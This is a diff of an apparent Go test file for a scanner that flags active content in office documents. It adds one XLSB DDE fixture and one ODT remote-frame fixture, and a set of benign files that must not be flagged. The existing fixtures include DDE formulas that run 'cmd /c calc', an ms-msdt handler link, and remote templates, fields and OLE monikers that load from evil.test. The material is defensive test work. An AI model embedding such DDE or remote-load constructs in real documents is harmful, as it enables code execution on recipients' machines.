@@ -212,6 +212,7 @@ func bad(t testing.TB) map[string]struct {
 		"hidden formula":     {"a.csv", "dde", []byte("a,\"@SUM(1+1)*cmd|' /C calc'!A0\"\r\n")},
 		"link in xlsx":       {"a.xlsx", "dde", zipped(t, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`)},
 		"link in xls":        {"a.xls", "dde", workbook("\xae\x01\x0e\x00\x01\x00\x0a\x00\x00cmd\x03/c calc"[:18])},
+		"link in xlsb":       {"a.xlsb", "dde", zipped(t, "xl/externalLinks/externalLink1.bin", "\xe8\x02\x22\x01\x00\x03\x00\x00\x00"+utf16le("cmd")+"\x07\x00\x00\x00"+utf16le("/c calc"))},
 		"link in ods":        {"a.ods", "dde", zipped(t, "content.xml", `<office:document-content xmlns:office="o"><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/></office:document-content>`)},
 
 		"template":                 {"a.docx", "remote-template", related(t, "attachedTemplate", "https://evil.test/t.dotm")},
@@ -221,6 +222,7 @@ func bad(t testing.TB) map[string]struct {
 		"object":                   {"a.docx", "remote-template", related(t, "oleObject", "mhtml:http://evil.test/x!x-usc:http://evil.test/x")},
 		"frame":                    {"a.docx", "remote-template", related(t, "frame", "//evil.test/x")},
 		"picture by a handler":     {"a.docx", "remote-template", related(t, "image", "ms-msdt:/id PCWDiagnostic")},
+		"frame in odt":             {"a.odt", "remote-template", zipped(t, "content.xml", `<office:document-content xmlns:d="d"><d:floating-frame xlink:href="https://evil.test/"/></office:document-content>`)},
 		"field that loads":         {"a.docx", "remote-template", docx(t, fields(` INCLUDETEXT "https://evil.test/x" `))},
 		"template of a doc":        {"a.doc", "remote-template", templateDoc("https://evil.test/t.dot")},
 		"linked object":            {"a.doc", "remote-template", compoundFile(streamData{"ObjectPool/_1/\x01Ole", []byte(strings.Repeat("\x00", 16) + urlMoniker + "\x40\x00\x00\x00" + utf16le("http://evil.test/x.hta\x00"))})},
@@ -281,6 +283,43 @@ func TestWhatActsIsFound(t *testing.T) {
 			}
 			t.Log(c.rule, found[c.rule])
 		})
+	}
+}
+
+// ordinary are documents in which nothing may be found.
+func ordinary(t testing.TB) map[string][]byte {
+	field := func(code string) string { return `<w:fldSimple w:instr="` + code + `"/>` }
+	return map[string][]byte{
+		"links.docx":       related(t, "hyperlink", "https://example.com/a?b=c"),
+		"share.docx":       related(t, "hyperlink", "file:///\\\\server\\share\\a.docx"),
+		"template.docx":    related(t, "attachedTemplate", "file:///C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"),
+		"inside.docx":      related(t, "image", "/word/media/image1.png"),
+		"above.docx":       related(t, "customXml", "../customXml/item1.xml"),
+		"fields.docx":      docx(t, field(" PAGE \\* MERGEFORMAT ")+field(" HYPERLINK &quot;https://example.com&quot; ")+field(" TOC \\o &quot;1-3&quot; ")+field(" DDEX ")+field(" INCLUDEPICTURE &quot;C:\\a.png&quot; ")),
+		"empty.xlsm":       macros(vbaModule{"ThisWorkbook", "", 0}, vbaModule{"Sheet1", "\r\n", 0}),
+		"names.xls":        compoundFile(streamData{"Workbook", []byte("\x09\x08\x04\x00\x00\x06\x05\x00\x85\x00\x0e\x00\x00\x01\x00\x00\x00\x00\x06\x00Sheet1")}),
+		"clicks.odt":       zipped(t, "content.xml", `<office:document-content xmlns:script="s"><script:event-listener script:event-name="form:performaction" xlink:href="vnd.sun.star.script:a"/></office:document-content>`),
+		"pages.pdf":        pdfOf("<< /Type /Catalog /OpenAction [ 2 0 R /XYZ null null 0 ] >>", "<< /S /GoTo /D [ 3 0 R /Fit ] >>", "<< /Subtype /Link /A << /S /URI /URI (https://example.com/) >> >>", "<< /Type /StructElem /S /P >>"),
+		"fields.pdf":       pdfOf("<< /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >> /K 2 0 R >> >>", "<< /S /JavaScript /JS 3 0 R >>", "(AFDate_KeystrokeEx\\(\"dd.mm.yyyy\"\\))"),
+		"chapters.pdf":     pdfOf("<< /OpenAction << /S /GoTo >> /A << /S /GoToR /F (chapter2.pdf) >> >>", "<< /S /URI /URI (mailto:a@example.com) >>"),
+		"streams.pdf":      pdfOf(objectStream("<< /Type /Page /Parent 1 0 R >>")),
+		"text.rtf":         []byte(`{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\field{\*\fldinst{HYPERLINK "https://example.com"}}{\fldrslt x}}{\pict\pngblip 89504e47}{\*\template C:\\a.dot}\bin3 \{{{}`),
+		"site.url":         []byte("[InternetShortcut]\r\nURL=https://example.com/a.exe\r\nIconFile=https.ico\r\n"),
+		"app.lnk":          shellLinkTo(`C:\Program Files\App\app.exe`, "--new-window", `%SystemRoot%\a.ico`),
+		"known.library-ms": []byte(`<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></libraryDescription>`),
+		"picture.svg":      []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ns "http://ns.adobe.com/">]><svg xmlns:x="&ns;"><style>a{}</style><a href="https://example.com"><path d="M0 0" onto="x"/></a></svg>`),
+		"pipes.csv":        []byte("a|b|c\r\n=SUM(A1)|cmd|x!\r\n-12|+49 30|@home\r\ncmd|'x'!A0\r\n"),
+		"manual.txt":       []byte("Run - cat a | cmd 'x'!\n- ps | grep 'a'\n"),
+		"notes.one":        oneNoteWith("\x89PNG\r\n\x1a\n"),
+		"table.slk":        []byte("ID;PSCALC3\r\nO;L;D\r\nC;X1;Y1;K\"E\"\r\n"),
+	}
+}
+
+func TestOrdinaryDocumentsAreSilent(t *testing.T) {
+	for name, data := range ordinary(t) {
+		if found := findings(t, name, data); len(found) > 0 {
+			t.Errorf("%s: found %v", name, found)
+		}
 	}
 }
 
